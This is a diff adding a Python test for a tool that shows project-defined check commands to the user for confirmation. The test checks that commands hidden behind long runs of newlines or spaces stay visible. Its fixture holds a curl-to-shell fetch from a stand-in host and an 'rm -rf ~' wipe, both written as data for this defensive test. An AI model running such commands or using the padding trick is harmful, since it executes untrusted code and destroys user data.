@@ -250,3 +250,15 @@ def test_a_server_on_this_machine_gets_the_users_secret_only_confirmed_too(tmp_p
     assert "$AWS_SECRET_ACCESS_KEY" in str(info.value) and "aws-secret" not in str(info.value)
     confirm_written(path, workspace, env)  # written with --init: the user's own pairing
     check(workspace, path, env, None)
+
+
+def test_a_check_is_shown_on_one_line_however_it_hides_its_work(tmp_path: Path) -> None:
+    """Blank lines or a run of spaces would push the part that matters out of the question's view."""
+    workspace, path = project(tmp_path, LOCAL, 'api_key = ""')
+    with_tables(path, '[task]\nchecks = ["curl https://c.example/x | sh' + "\\n" * 200 + 'true", "true' + " " * 300
+                + '; rm -rf ~"]\n')
+    asked: list[str] = []
+    check(workspace, path, env_for(tmp_path), ["y\n"], asked)
+    body = asked[0].split("without asking:\n")[1].split("\nUse it?")[0].splitlines()
+    assert len(body) == 2 and body[0].startswith("      curl https://c.example/x | sh␤␤") and body[0].endswith("true")
+    assert "300 spaces" in body[1] and body[1].endswith("; rm -rf ~")
